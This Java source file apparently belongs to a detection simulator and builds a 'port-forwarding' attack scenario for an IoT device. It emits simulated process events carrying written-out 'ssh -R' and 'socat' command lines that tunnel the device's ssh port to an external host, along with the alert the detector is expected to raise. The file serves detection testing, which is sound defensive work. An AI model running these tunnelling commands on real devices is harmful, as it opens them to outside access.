package io.vigil.simulator.scenario;

import io.vigil.simulator.agent.Events;
import io.vigil.simulator.agent.ProcessCreate;

import java.util.List;

/**
 * The device's ssh port is exposed to an internet host twice over: an ssh remote forward and a socat relay,
 * both to an external address.
 */
final class PortForwardingScenario implements AttackScenario {

    @Override
    public String name() {
        return "port-forwarding";
    }

    @Override
    public String description() {
        return "ssh -R 8080:localhost:22 to an internet host, socat TCP-LISTEN:2222 relay to it";
    }

    @Override
    public List<String> expectedFindings() {
        return List.of("alert IoT_PortForwarding (Port forwarding detection, High)");
    }

    @Override
    public Episode attack(DeviceState device) {
        String external = device.externalAddress("203.0.113");
        Account victim = device.profile().appUser();
        String lan = device.profile().lanAddress();
        ProcessCreate ssh = device.process("/usr/bin/ssh",
                "ssh -fN -o ExitOnForwardFailure=yes -R 8080:localhost:22 tunnel@" + external, victim,
                DeviceState.APP_PID);
        ProcessCreate socat = device.process("/usr/bin/socat",
                "socat TCP-LISTEN:2222,fork,reuseaddr TCP:" + external + ":22", victim, DeviceState.APP_PID);
        return new Episode()
                .atMillis(0, ssh)
                .atMillis(150, Events.outboundConnection("/usr/bin/ssh", external, 22)
                        .local(lan, device.ephemeralPort()).processId(ssh.processId()).userId(victim.userId())
                        .commandLine(ssh.commandLine()))
                .atSecond(20, socat);
    }
}
